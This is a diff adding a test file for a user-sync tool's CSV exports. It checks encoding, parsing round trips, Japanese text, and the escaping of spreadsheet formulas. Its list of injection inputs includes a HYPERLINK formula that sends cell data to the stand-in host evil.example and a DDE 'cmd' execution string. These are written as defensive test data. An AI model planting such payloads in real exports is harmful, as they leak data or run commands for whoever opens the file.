@@ -1,0 +1,164 @@
+// Tests of the plan and run CSVs: exact header, BOM, CRLF, RFC 4180 round trip, Japanese text, formula neutralisation.
+import { parse } from 'csv-parse/sync';
+import { describe, expect, it } from 'vitest';
+import { csvCell, neutraliseFormula } from '../../src/sync/csv-cell.js';
+import type { RunRecord, SourceUser } from '../../src/sync/model.js';
+import { buildPlan } from '../../src/sync/plan.js';
+import { PLAN_CSV_COLUMNS, planCsv, planCsvChunks } from '../../src/sync/plan-csv.js';
+import { runCsv } from '../../src/sync/run-csv.js';
+import { DOMAIN, entraUser, settings, snapshot } from './fixtures.js';
+
+const HEADER = 'Action,UserPrincipalName,ImmutableId,DisplayName,GivenName,Surname,ChangedAttributes,Note';
+const meta = { id: 'p', now: '2026-11-26T00:00:00.000Z' };
+const rows = (csv: string): string[][] => parse(csv.slice(1), { relaxColumnCount: false, record_delimiter: '\r\n' });
+
+/** What a spreadsheet would evaluate: a cell whose first non-blank character starts a formula, or a leading tab/CR/LF. */
+const evaluates = (cell: string): boolean => /^[\t\r\n]/.test(cell) || /^[ \u00A0\u3000]*[=+\-@＝＋－＠]/.test(cell);
+
+const INJECTIONS = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  '+SUM(1,2)',
+  '-2+3',
+  '@SUM(A1)',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠x',
+  '   =1+1',
+  '\t=1+1',
+  '\u3000=1',
+  '\r=1',
+  '\n=cmd|" /C calc"!A0',
+];
+
+describe('plan CSV', () => {
+  const source: SourceUser[] = [
+    {
+      userPrincipalName: `yamada@${DOMAIN}`,
+      immutableId: 'I1',
+      displayName: '山田 太郎',
+      givenName: '太郎',
+      surname: '山田',
+      jobTitle: '課長, 営業',
+    },
+    { userPrincipalName: `b@${DOMAIN}`, immutableId: 'I2', displayName: 'Bob "the" Builder' },
+  ];
+  const plan = buildPlan(
+    snapshot({
+      source,
+      entra: [
+        entraUser({
+          id: 'e2',
+          userPrincipalName: `b@${DOMAIN}`,
+          onPremisesImmutableId: 'I2',
+          displayName: 'Bob',
+          mailNickname: 'b',
+        }),
+        entraUser({ id: 'e3', userPrincipalName: `gone@${DOMAIN}`, displayName: '削除 予定' }),
+        entraUser({ id: 'g', userPrincipalName: `guest@${DOMAIN}`, userType: 'Guest', displayName: 'Guest' }),
+      ],
+      deleted: [],
+    }),
+    settings({ maxDeletionPercent: 100 }),
+    meta,
+  );
+  const csv = planCsv(plan);
+
+  it('starts with a BOM and the exact header, ends every record with CRLF', () => {
+    expect(csv.startsWith(`\uFEFF${HEADER}\r\n`)).toBe(true);
+    expect(PLAN_CSV_COLUMNS.join(',')).toBe(HEADER);
+    expect(csv.endsWith('\r\n')).toBe(true);
+    expect(csv.replaceAll('\r\n', '').includes('\n')).toBe(false);
+  });
+
+  it('round-trips through an RFC 4180 parser with Japanese text intact, rows in plan order', () => {
+    const parsed = rows(csv);
+    expect(parsed[0]).toEqual([...PLAN_CSV_COLUMNS]);
+    expect(parsed.slice(1).map((r) => r[0])).toEqual(['Add', 'Update', 'Delete', 'Skip']);
+    const add = parsed[1]!;
+    expect(add.slice(0, 6)).toEqual(['Add', `yamada@${DOMAIN}`, 'I1', '山田 太郎', '太郎', '山田']);
+    expect(add[6]).toContain('jobTitle: "" → "課長, 営業"');
+    expect(add[7]).toBe('no licence assigned');
+    expect(parsed[2]![6]).toBe('displayName: "Bob" → "Bob "the" Builder"');
+    expect(parsed[3]).toEqual([
+      'Delete',
+      `gone@${DOMAIN}`,
+      '',
+      '削除 予定',
+      '',
+      '',
+      '',
+      'delete (restorable for 30 days)',
+    ]);
+    expect(parsed[4]![7]).toBe('guest user');
+    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+  });
+
+  it('shows a restore as Add with its note', () => {
+    const restore = buildPlan(
+      snapshot({
+        source: [{ userPrincipalName: `r@${DOMAIN}`, immutableId: 'IR', displayName: 'R' }],
+        deleted: [{ id: 'd1', userPrincipalName: `r@${DOMAIN}`, onPremisesImmutableId: 'IR', deletedDateTime: null }],
+      }),
+      settings(),
+      meta,
+    );
+    const [, row] = rows(planCsv(restore));
+    expect(row![0]).toBe('Add');
+    expect(row![7]).toBe('restore soft-deleted user');
+  });
+
+  it('neutralises every cell a spreadsheet would evaluate', () => {
+    const evil = INJECTIONS.map((name, i) => ({
+      userPrincipalName: `u${i}@${DOMAIN}`,
+      immutableId: `X${i}`,
+      displayName: name,
+      givenName: name,
+      surname: '=1',
+    }));
+    const evilPlan = buildPlan(
+      snapshot({
+        source: evil,
+        entra: [entraUser({ id: 'z', userPrincipalName: `z@${DOMAIN}`, displayName: '+cmd' })],
+      }),
+      settings({ maxDeletionPercent: 100 }),
+      meta,
+    );
+    const parsed = rows(planCsv(evilPlan));
+    const cells = parsed.flat();
+    expect(cells.filter(evaluates)).toEqual([]);
+    // The text itself is kept, behind one apostrophe.
+    expect(parsed[1]![3]).toBe(`'${INJECTIONS[0]}`);
+    for (const s of INJECTIONS) expect(neutraliseFormula(s)).toBe(`'${s}`);
+    for (const s of ['Alice', '山田', 'a=b', ' x', '']) expect(neutraliseFormula(s)).toBe(s);
+    expect(csvCell('a,"b"')).toBe('"a,""b"""');
+  });
+
+  it('streams in blocks that join to the same text', () => {
+    expect([...planCsvChunks(plan)].join('')).toBe(csv);
+  });
+});
+
+describe('run CSV', () => {
+  it('lists per-user outcomes with the same encoding and neutralisation', () => {
+    const run = {
+      outcomes: [
+        { action: 'Add', upn: `a@${DOMAIN}`, immutableId: 'I1', result: 'done', restored: true },
+        {
+          action: 'Update',
+          upn: `b@${DOMAIN}`,
+          immutableId: 'I2',
+          result: 'failed',
+          errorKind: 'bad_request',
+          errorCode: 'Request_BadRequest',
+          errorMessage: '=invalid value, "x"',
+        },
+      ],
+    } as Pick<RunRecord, 'outcomes'>;
+    const csv = runCsv(run);
+    expect(csv.startsWith('\uFEFFAction,UserPrincipalName,ImmutableId,Result,ErrorCode,ErrorMessage\r\n')).toBe(true);
+    const parsed = rows(csv);
+    expect(parsed[1]).toEqual(['Add', `a@${DOMAIN}`, 'I1', 'done (restored)', '', '']);
+    expect(parsed[2]).toEqual(['Update', `b@${DOMAIN}`, 'I2', 'failed', 'Request_BadRequest', `'=invalid value, "x"`]);
+  });
+});
